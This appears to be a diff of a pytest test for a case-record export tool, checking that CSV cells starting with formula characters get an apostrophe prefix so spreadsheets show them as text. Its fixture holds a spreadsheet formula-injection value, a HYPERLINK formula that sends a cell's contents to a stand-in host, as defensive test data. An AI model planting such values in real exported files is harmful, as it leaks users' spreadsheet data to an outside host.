@@ -91,11 +91,12 @@ def test_a_csv_output_cell_a_spreadsheet_would_run_is_text(
         tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """A case id (or a statute's citation) such as `=HYPERLINK(…)` was written as it is,
     a live formula once the output opens in a spreadsheet."""
-    ids = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "@SUM(A1)", "-2", "plain"]
+    ids = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "@SUM(A1)", "-2", "'=x", "plain"]
     source = _write(tmp_path, "cases.jsonl", b"".join(
         json.dumps({"id": i, "date": "2015-03-02"}).encode() + b"\n" for i in ids))
     rows = _batch(tmp_path, capsys, source, "out.csv")
-    assert [r["case_id"] for r in rows] == ["'" + i for i in ids[:4]] + ["plain"]
+    # an id that starts with an apostrophe gets one more, so `=x` and `'=x` stay apart
+    assert [r["case_id"] for r in rows] == ["'" + i for i in ids[:5]] + ["plain"]
     # the other formats keep the value as it is
     assert [r["case_id"] for r in _batch(tmp_path, capsys, source, "out.jsonl")] == ids
 
